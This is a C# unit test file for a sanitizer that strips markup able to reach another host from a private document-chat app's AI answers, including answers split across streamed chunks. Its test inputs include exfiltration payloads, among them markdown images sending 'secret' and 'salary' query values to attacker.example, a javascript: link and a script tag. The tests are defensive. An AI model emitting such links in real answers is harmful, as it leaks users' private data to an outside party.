using PrivateRag.Core.Answering;

namespace PrivateRag.Core.Tests.Chat;

public sealed class AnswerSanitizerTests
{
    [Theory]
    [InlineData("See ![leak](https://attacker.example/x?q=secret) now.", "See leak now.")]
    [InlineData("See ![leak](//attacker.example/x) now.", "See leak now.")]
    [InlineData("Click [here](https://attacker.example) please.", "Click here please.")]
    [InlineData("Click [here](javascript:alert(1)) please.", "Click here please.")]
    [InlineData("A <img src=\"https://attacker.example/p.png\"> B", "A  B")]
    [InlineData("A <script>fetch('https://x')</script> B", "A fetch('https://x') B")]
    [InlineData("Go <https://attacker.example> now", "Go  now")]
    [InlineData("[x][1]\n[1]: https://attacker.example/track\n", "[x][1]\n\n")]
    public void Removes_markup_that_would_reach_another_host(string answer, string expected) =>
        Assert.Equal(expected, AnswerSanitizer.Sanitize(answer));

    [Theory]
    [InlineData("Revenue grew [1].")]
    [InlineData("See [the source](/api/documents/3f2a/content#page=4) [2].")]
    [InlineData("Use 3 < 4 and 5 > 2.")]
    public void Keeps_citations_app_links_and_plain_text(string answer) =>
        Assert.Equal(answer, AnswerSanitizer.Sanitize(answer));

    [Fact]
    public void A_streamed_image_split_across_pieces_never_gets_through()
    {
        var pieces = new[] { "Here: !", "[x](ht", "tps://attacker.exa", "mple/?q=salary) and <im", "g src=x> done [1]." };
        var sanitizer = new StreamingAnswerSanitizer();
        var emitted = string.Concat(pieces.Select(sanitizer.Push)) + sanitizer.Complete();
        Assert.DoesNotContain("attacker", emitted);
        Assert.DoesNotContain("<im", emitted);
        Assert.Equal("Here: x and  done [1].", emitted);
    }

    [Fact]
    public void Streaming_holds_back_only_what_might_be_unfinished()
    {
        var sanitizer = new StreamingAnswerSanitizer();
        Assert.Equal("Plain text ", sanitizer.Push("Plain text ["));
        // The last word waits for the whitespace after it: a bare URL is only recognised whole.
        Assert.Equal("[1] ", sanitizer.Push("1] more"));
        Assert.Equal("more", sanitizer.Complete());
    }
}
